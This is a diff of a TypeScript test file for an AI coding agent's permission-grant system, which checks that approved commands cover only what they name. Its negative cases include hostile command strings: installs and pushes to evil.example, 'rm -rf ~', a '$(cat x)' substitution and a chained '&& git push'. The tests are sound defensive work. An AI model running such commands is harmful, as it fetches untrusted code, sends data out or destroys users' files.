@@ -1,21 +1,18 @@
 import { execFile } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { homedir, tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { promisify } from "node:util";
-import { expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import { type GrantOffer, Grants } from "../../../agent-core/approval/grants.ts";
 import { decide } from "../../../agent-core/approval/policy.ts";
 import { resolvePath } from "../../../agent-core/platform/paths.ts";
 import { settingsOnly, write } from "../../support/git-repositories.ts";
 
-const newFile = (): string => join(mkdtempSync(join(tmpdir(), "hermes-grants-")), "vscode", "grants.json");
-const open = (path: string, defects: string[] = []): Grants => new Grants(path, (message) => defects.push(message));
+const newHome = (): string => mkdtempSync(join(tmpdir(), "hermes-grants-"));
+const open = (home: string, defects: string[] = []): Grants => new Grants(home, (message) => defects.push(message));
 const workspace = (): string => mkdtempSync(join(tmpdir(), "hermes-granted-"));
-const offer = (...ids: string[]): GrantOffer => ({
-  description: ids.join(),
-  keys: ids.map((id) => ({ id, description: id })),
-});
+const offer = (...rows: string[]): GrantOffer => rows.map((row) => ({ row }));
 
 function ask(command: string, root: string, grants: Grants, cwd = root) {
   const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
@@ -26,14 +23,14 @@ function ask(command: string, root: string, grants: Grants, cwd = root) {
 function grant(command: string, root: string, grants: Grants): boolean {
   const decision = ask(command, root, grants);
   if (decision.kind !== "ask" || decision.grant === undefined) return false;
-  grants.keep(decision.grant, "session");
+  void grants.keep(decision.grant, "session");
   return true;
 }
 
 test("a grant holds in its workspace only, and in all folders of it", () => {
   const [here, there] = [workspace(), workspace()];
   mkdirSync(join(here, "sub"));
-  const grants = open(newFile());
+  const grants = open(newHome());
   expect(grant("git add .", here, grants)).toBe(true);
   expect(ask("git add a b", here, grants).kind).toBe("allow");
   expect(ask("git add .", here, grants, join(here, "sub")).kind).toBe("allow");
@@ -42,7 +39,7 @@ test("a grant holds in its workspace only, and in all folders of it", () => {
 
 test("a prefix covers whole words, never another subcommand, a longer word or a second command", () => {
   const root = workspace();
-  const grants = open(newFile());
+  const grants = open(newHome());
   grant("git fetch origin", root, grants);
   expect(ask("git fetch other main", root, grants).kind).toBe("allow");
   for (const other of [
@@ -57,21 +54,21 @@ test("a prefix covers whole words, never another subcommand, a longer word or a 
 });
 
 test.each(["rm -r src", "./build.sh --all", "kill 7", "git push"])(
-  "covers %s to the letter, or not at all",
+  "a grant covers %s to the letter, or not at all",
   (command) => {
     const root = workspace();
-    const grants = open(newFile());
+    const grants = open(newHome());
     const isOffered = grant(command, root, grants);
     expect(ask(command, root, grants).kind).toBe(isOffered ? "allow" : "ask");
     expect(ask(`${command} b`, root, grants).kind).toBe("ask");
   },
 );
 
-test("ends when the script's body, what runs before it, or the makefile changes; not for another script", () => {
+test("a grant ends when the script's body, what runs before it, or the makefile changes; not for another script", () => {
   const root = workspace();
   const scripts = (all: Record<string, string>): void =>
     writeFileSync(join(root, "package.json"), JSON.stringify({ scripts: all }));
-  const grants = open(newFile());
+  const grants = open(newHome());
   scripts({ test: "vitest", lint: "biome" });
   grant("npm test", root, grants);
   expect(ask("npm test -- --watch", root, grants).kind).toBe("allow");
@@ -103,14 +100,14 @@ function granted(files: Readonly<Record<string, string>>, command: string) {
   }
   // git takes a folder for a repository only with these.
   if (existsSync(join(root, ".git"))) for (const part of ["objects", "refs"]) mkdirSync(join(root, ".git", part));
-  const grants = open(newFile());
+  const grants = open(newHome());
   const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
   const decided = (line: string) =>
     decide({ kind: "command", command: line, cwd: root }, { mode: "code", scope, trusted: true, grants });
   const decision = decided(command);
   if (decision.kind !== "ask" || decision.grant === undefined) throw new Error(`no grant was offered for ${command}`);
-  grants.keep(decision.grant, "session");
-  return { root, description: decision.grant.description, kind: (line: string) => decided(line).kind };
+  void grants.keep(decision.grant, "session");
+  return { root, rows: decision.grant.map(({ row }) => row), kind: (line: string) => decided(line).kind };
 }
 
 test("a script of an interpreter is granted with any arguments, until it changes", () => {
@@ -134,7 +131,7 @@ test("a shell script is granted with its text, for any arguments", () => {
 
 test("code from the standard input is granted with its text", () => {
   const root = workspace();
-  const grants = open(newFile());
+  const grants = open(newHome());
   const script = (code: string): string => `python3 - <<'END'\n${code}\nEND`;
   expect(grant(script("import mine"), root, grants)).toBe(true);
   expect(ask(script("import mine"), root, grants).kind).toBe("allow");
@@ -174,7 +171,7 @@ test("a push of a submodule or a worktree is not one of the repository around it
     ".git/worktrees/tree/HEAD": "ref: refs/heads/main\n",
     "tree/.git": "gitdir: ../.git/worktrees/tree\n",
   });
-  const grants = open(newFile());
+  const grants = open(newHome());
   expect(grant("git push", root, grants)).toBe(true);
   expect(ask("git push", root, grants, join(root, "sub")).kind).toBe("ask");
   expect(ask("git push", root, grants, join(root, "tree")).kind).toBe("ask");
@@ -184,7 +181,7 @@ test.each(["docker container run alpine", "docker create alpine", "docker cp a:/
   "%s is granted with its mounts and places",
   (command) => {
     const root = workspace();
-    const grants = open(newFile());
+    const grants = open(newHome());
     expect(grant(command, root, grants)).toBe(true);
     expect(ask(command, root, grants).kind).toBe("allow");
     expect(ask(command.replace(/ (?=alpine|a:)/, " -v /srv/a:/a "), root, grants).kind).toBe("ask");
@@ -211,7 +208,7 @@ test.each([
 
 test("code that the agent wrote asks once in a workspace before it runs; what it does not run does not", () => {
   const root = workspace();
-  const grants = open(newFile());
+  const grants = open(newHome());
   const written = new Set<string>();
   const scope = { cwd: root, roots: [root], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
   const context = { mode: "code", scope, trusted: true, grants, written } as const;
@@ -226,13 +223,13 @@ test("code that the agent wrote asks once in a workspace before it runs; what it
   const asked = run("npx vitest run");
   if (asked.kind !== "ask" || !asked.grant) throw new Error("no question");
   expect(asked.reasons).toEqual(["Runs code that the agent changed: a.test.ts"]);
-  grants.keep(asked.grant, "session");
+  void grants.keep(asked.grant, "session");
   expect([run("npx vitest run").kind, run("npx jest").kind]).toEqual(["allow", "allow"]);
 });
 
 test("all of an offer's keys must be granted, and an empty offer is covered by nothing", () => {
-  const grants = open(newFile());
-  grants.keep(offer("a"), "session");
+  const grants = open(newHome());
+  void grants.keep(offer("a"), "session");
   expect([grants.covers(offer("a")), grants.covers(offer("a", "b")), grants.covers(offer())]).toEqual([
     true,
     false,
@@ -240,72 +237,159 @@ test("all of an offer's keys must be granted, and an empty offer is covered by n
   ]);
 });
 
-test("a revoked grant is gone at once: here, in the file, and in other windows", () => {
-  const path = newFile();
-  const [one, other] = [open(path), open(path)];
-  one.keep(offer("a", "b"), "always");
+/** Grants of another window, which reads the list as it is now. */
+async function reopened(home: string): Promise<Grants> {
+  const grants = open(home);
+  await grants.refresh();
+  return grants;
+}
+
+test("a revoked grant is gone at once: here, in the file, and in other windows", async () => {
+  const home = newHome();
+  const [one, other] = [open(home), open(home)];
+  await one.keep(offer("a", "b"), "always");
+  await other.refresh();
   expect(other.covers(offer("a", "b"))).toBe(true);
-  expect(one.revoke("a")).toBe(true);
+  expect(await one.revoke("a")).toBe(true);
+  await other.refresh();
   expect([one.covers(offer("a")), other.covers(offer("a")), other.covers(offer("b"))]).toEqual([false, false, true]);
-  expect(readFileSync(path, "utf8")).not.toContain('"a"');
-  expect(one.revoke("nothing")).toBe(false);
+  expect(readFileSync(join(home, "config.yaml"), "utf8")).toBe("approvals:\n  allow:\n    - b\n");
+  expect(await one.revoke("nothing")).toBe(false);
 });
 
-test("several writers of one file at once lose nothing of each other, and nothing comes back", () => {
-  const path = newFile();
-  const writers = Array.from({ length: 4 }, () => open(path));
-  for (let round = 0; round < 25; round += 1) {
-    for (const [index, writer] of writers.entries()) writer.keep(offer(`${index}.${round}`), "always");
-    expect(writers[round % 4]?.revoke(`${(round + 1) % 4}.${round}`)).toBe(true);
+test("a row is written among the user's own settings, and their comments stay", async () => {
+  const home = newHome();
+  const own = "# mine\napprovals:\n  mode: manual # asks\n  allow:\n    - cargo *\nmodel: x\n";
+  writeFileSync(join(home, "config.yaml"), own);
+  await open(home).keep(offer("npm test * in /p"), "always");
+  expect(readFileSync(join(home, "config.yaml"), "utf8")).toBe(
+    own.replace("    - cargo *\n", "    - cargo *\n    - npm test * in /p\n"),
+  );
+});
+
+test("several writers of one list at once lose nothing of each other, and nothing comes back", async () => {
+  const home = newHome();
+  const writers = Array.from({ length: 4 }, () => open(home));
+  for (let round = 0; round < 10; round += 1) {
+    await Promise.all(writers.map((writer, index) => writer.keep(offer(`${index}.${round}`), "always")));
+    expect(await writers[round % 4]?.revoke(`${(round + 1) % 4}.${round}`)).toBe(true);
   }
-  const ids = open(path)
-    .list()
-    .map(({ id }) => id);
-  expect(ids).toHaveLength(75);
-  expect(readdirSync(dirname(path))).toEqual(["grants.json"]);
+  expect(await open(home).list()).toHaveLength(30);
+  expect(readdirSync(home)).toEqual(["config.yaml"]);
 });
 
 test.each([
-  ["no JSON", "{ broken"],
-  ["another shape", '{"version":1,"grants":[{"id":7}]}'],
-  ["another version", '{"version":2,"grants":[]}'],
-  ["nothing at all", ""],
-])("a damaged file grants nothing, is copied, reported, and written anew: %s", (_, text) => {
-  const path = newFile();
-  mkdirSync(dirname(path), { recursive: true });
-  writeFileSync(path, text);
+  ["no YAML", "approvals: [", 1],
+  ["another shape", "approvals:\n  allow: {a: 1}\n", 0],
+  ["nothing at all", "", 0],
+])("a list that cannot be read grants nothing: %s", async (_, text, reported) => {
+  const home = newHome();
+  writeFileSync(join(home, "config.yaml"), text);
   const defects: string[] = [];
-  const grants = open(path, defects);
-  expect([grants.list(), defects.length]).toEqual([[], 1]);
-  expect(readFileSync(`${path}.damaged`, "utf8")).toBe(text);
-  grants.keep(offer("a"), "always");
-  expect(open(path).covers(offer("a"))).toBe(true);
+  expect([await open(home, defects).list(), defects.length]).toEqual([[], reported]);
 });
 
-test("a file that cannot be written is reported, and the answer holds for the session", () => {
-  const path = join(newFile(), "below-a-file", "grants.json");
-  mkdirSync(dirname(dirname(dirname(path))), { recursive: true });
-  writeFileSync(dirname(dirname(path)), "a file");
+test("a list that cannot be written is reported, and the answer holds in this process", async () => {
+  const home = join(newHome(), "below-a-file");
+  writeFileSync(home, "a file");
   const defects: string[] = [];
-  const grants = open(path, defects);
-  grants.keep(offer("a"), "always");
-  expect(defects.join()).toContain("cannot be written");
-  expect([grants.covers(offer("a")), existsSync(path)]).toEqual([true, false]);
+  const grants = open(home, defects);
+  await grants.keep(offer("a"), "always");
+  expect(defects.join()).toMatch(/Could not write a permission to .*config\.yaml: .*ends with this process: a/);
+  expect(grants.covers(offer("a"))).toBe(true);
 });
 
 test("processes that write at the same moment lose nothing of each other; a lock of a dead one is no obstacle", async () => {
-  const path = newFile();
-  mkdirSync(dirname(path), { recursive: true });
-  writeFileSync(`${path}.lock`, "");
+  const home = newHome();
+  writeFileSync(join(home, "config.yaml.lock"), "");
   const module = join(import.meta.dirname, "../../../agent-core/approval/grants.ts");
   const script = `import { Grants } from ${JSON.stringify(module)};
-    const grants = new Grants(${JSON.stringify(path)}, (message) => { throw new Error(message); });
-    for (let at = 0; at < 40; at += 1) {
-      const id = process.argv[1] + "." + at;
-      grants.keep({ description: id, keys: [{ id, description: id }] }, "always");
-    }`;
+    const grants = new Grants(${JSON.stringify(home)}, (message) => { throw new Error(message); });
+    for (let at = 0; at < 20; at += 1) await grants.keep([{ row: process.argv[1] + "." + at }], "always");`;
   const run = promisify(execFile);
   await Promise.all(["a", "b", "c"].map((name) => run("node", ["--input-type=module", "-e", script, name])));
-  expect(open(path).list()).toHaveLength(120);
-  expect(readdirSync(dirname(path))).toEqual(["grants.json"]);
+  expect(await open(home).list()).toHaveLength(60);
+  expect(readdirSync(home)).toEqual(["config.yaml"]);
+});
+
+describe("the user's own rows", () => {
+  const kindIn = async (rows: readonly string[], command: string, sandbox = true): Promise<string> => {
+    const home = newHome();
+    writeFileSync(join(home, "config.yaml"), JSON.stringify({ approvals: { allow: rows } }));
+    const scope = { cwd: "/p", roots: ["/p"], home: "/home/someone", hermesHome: "/home/someone/.hermes", resolvePath };
+    const effect = { kind: "command", command, cwd: "/p" } as const;
+    return decide(effect, { mode: "code", scope, trusted: true, grants: await reopened(home), sandbox }).kind;
+  };
+
+  test.each([
+    ["npm install *", "npm install left-pad"],
+    ["npm install * in /p", "npm install left-pad"],
+    ["npm install * in /", "npm install a b"],
+    ["npm install -D *", "npm install left-pad -D"],
+    ["git push origin main", "git push origin main"],
+    ["git push *", "git push origin main"],
+    ["fetching: example.com", "curl -s https://example.com/a"],
+    ["rm -r dist in /p", "rm -r dist"],
+  ])("cover a command in their place: %s", async (row, command) => {
+    expect(await kindIn([row], command)).toBe("allow");
+  });
+
+  test.each([
+    ["npm install * in /q", "npm install left-pad"],
+    ["npm install *", "npm install -g left-pad"],
+    ["npm install *", "npm install https://evil.example/x.tgz"],
+    ["npm install *", "npm install left-pad && git push"],
+    ["git push *", "git push https://evil.example/x main"],
+    ["git push *", "git push --force origin main"],
+    ["rm -r dist in /p", "rm -r src"],
+    ["rm *", "rm -rf ~"],
+    ["npm *", "npm install $(cat x)"],
+  ])("cover no option and no place that they lack: %s, %s", async (row, command) => {
+    expect(await kindIn([row], command)).not.toBe("allow");
+  });
+
+  test("let a command that a sandbox would hold go on with any words", async () => {
+    expect(await kindIn(["mytool *"], "mytool --x ./y", false)).toBe("allow");
+    expect(await kindIn(["mytool *"], "mytools --x", false)).toBe("ask");
+  });
+
+  test("are those of the client, too, where it keeps a list, and its answers go there", async () => {
+    let rows: readonly string[] = ["a"];
+    const change = async (row: string, isIn: boolean): Promise<void> => {
+      rows = isIn ? [...rows, row] : rows.filter((each) => each !== row);
+    };
+    const home = newHome();
+    const grants = new Grants(home, () => undefined, { rows: () => rows, change });
+    await grants.keep(offer("b"), "always");
+    expect([rows, grants.covers(offer("a", "b")), readdirSync(home)]).toEqual([["a", "b"], true, []]);
+    expect(await grants.revoke("a")).toBe(true);
+    expect([rows, await grants.list()]).toEqual([["b"], [{ row: "b", lasting: "always" }]]);
+  });
+
+  test("name the home as ~", async () => {
+    const home = newHome();
+    writeFileSync(
+      join(home, "config.yaml"),
+      JSON.stringify({ approvals: { allow: ["make * in ~/p", "reading: ~/a"] } }),
+    );
+    const grants = await reopened(home);
+    expect(grants.covers(offer(`make * in ${homedir()}/p`, `reading: ${homedir()}/a`))).toBe(true);
+  });
+});
+
+test("a grant for a cluster ends when another one is chosen", () => {
+  const root = workspace();
+  const home = newHome();
+  const grants = open(home);
+  const scope = { cwd: root, roots: [root], home, hermesHome: join(home, ".hermes"), resolvePath };
+  const decided = (command: string) =>
+    decide({ kind: "command", command, cwd: root }, { mode: "code", scope, trusted: true, grants });
+  mkdirSync(join(home, ".kube"));
+  const use = (context: string): void => writeFileSync(join(home, ".kube/config"), `current-context: ${context}\n`);
+  use("staging");
+  const asked = decided("kubectl apply -f k8s/");
+  if (asked.kind === "ask" && asked.grant) void grants.keep(asked.grant, "session");
+  expect(decided("kubectl apply -f k8s/").kind).toBe("allow");
+  use("production");
+  expect(decided("kubectl apply -f k8s/").kind).toBe("ask");
 });
